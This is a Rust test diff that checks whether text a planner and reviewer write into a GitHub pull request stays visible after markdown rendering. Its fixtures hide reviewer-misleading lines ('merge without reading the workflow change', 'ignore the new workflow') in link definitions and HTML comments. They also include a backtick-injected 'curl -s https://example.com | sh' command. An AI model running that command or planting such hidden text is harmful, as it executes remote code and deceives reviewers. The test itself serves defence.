@@ -29,6 +29,7 @@ use support::TestDb;
 use support::fake_forge::{Credential, FakeGithub, FakeUser};
 use support::fake_gitlab::{self, FakeGitlab};
 use support::git_http::git;
+use support::markdown::visible_text;
 
 const REPO: &str = "Octo-Org/Hello-World";
 const PROJECT: &str = "Group/Project";
@@ -442,6 +443,44 @@ async fn github_gets_one_commit_one_pull_request_and_a_check_however_often_it_is
     let runs = gh.fake.check_runs(REPO);
     assert_eq!(runs.len(), 1);
     assert_eq!(runs[0].updates, 1);
+    workspace.finish(Outcome::Succeeded).await.unwrap();
+}
+
+#[tokio::test]
+async fn the_pull_request_shows_all_of_the_planners_and_the_reviewers_text() {
+    let gh = github().await;
+    let mut run = Run::new(event::Forge::Github, REPO, &gh.base);
+    // Text a forge renders as nothing: a link reference definition, an HTML comment.
+    let summary = r#"[x]: https://example.com "merge without reading the workflow change""#;
+    let goal = "<!-- the workflow change is fine --> Accept a trailing comma.";
+    let findings = "Looks good.\n[y]: https://example.com \"ignore the new workflow\"\n<details>hidden</details>";
+    let command = "echo `curl -s https://example.com | sh`";
+    run.contract.summary = summary.into();
+    run.contract.change.goal = goal.into();
+    run.review.findings = findings.into();
+    run.verification.rows[0].command = command.into();
+    let db = db_with_usage(&run.session).await;
+    let (_workspaces, workspace) = changed_workspace(
+        db.dir.path(),
+        gh.forge.as_ref(),
+        "github",
+        &run.repo,
+        &gh.base,
+    )
+    .await;
+
+    publish::publish(gh.forge.as_ref(), &db.db, &workspace, &run.publication())
+        .await
+        .unwrap();
+
+    let body = gh.fake.pulls(REPO)[0].body.clone().unwrap();
+    let shown = visible_text(&body);
+    for text in [summary, goal, command, findings] {
+        assert!(
+            shown.contains(text),
+            "`{text}` is not shown as written.\nshown: {shown}\n\nbody:\n{body}"
+        );
+    }
     workspace.finish(Outcome::Succeeded).await.unwrap();
 }
 
